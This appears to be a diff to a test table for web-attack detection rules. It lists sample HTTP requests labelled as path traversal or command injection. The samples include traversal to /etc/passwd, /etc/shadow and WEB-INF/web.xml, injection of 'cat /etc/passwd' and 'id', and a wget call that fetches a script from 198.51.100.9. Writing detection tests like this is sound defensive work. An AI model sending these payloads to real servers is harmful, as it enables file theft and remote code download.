@@ -360,6 +360,8 @@ def web(request: str, status: int = 200, agent: str = "Mozilla/5.0 (X11; Linux x
     ("GET /download.php?file=../../../../etc/passwd HTTP/1.1", "lw-web-path-traversal"),
     ("GET /index.php?page=php://filter/convert.base64-encode/resource=index HTTP/1.1", "lw-web-path-traversal"),
     ("GET /static/..%252f..%252f..%252fetc%252fshadow HTTP/1.1", "lw-web-path-traversal"),
+    ("GET /download?f=/0x2e0x2e0x5c0x2e0x2e0x5cboot.ini HTTP/1.1", "lw-web-path-traversal"),  # hex-escaped dots
+    ("GET /app?page=....//WEB-INF/web.xml HTTP/1.1", "lw-web-path-traversal"),
     ("GET /cgi-bin/ping.cgi?host=127.0.0.1;cat%20/etc/passwd HTTP/1.1", "lw-web-command-injection"),
     ("GET /api/exec?cmd=x%7Cid HTTP/1.1", "lw-web-command-injection"),
     ("GET /shell?c=$(wget%20http://198.51.100.9/x.sh) HTTP/1.1", "lw-web-command-injection"),
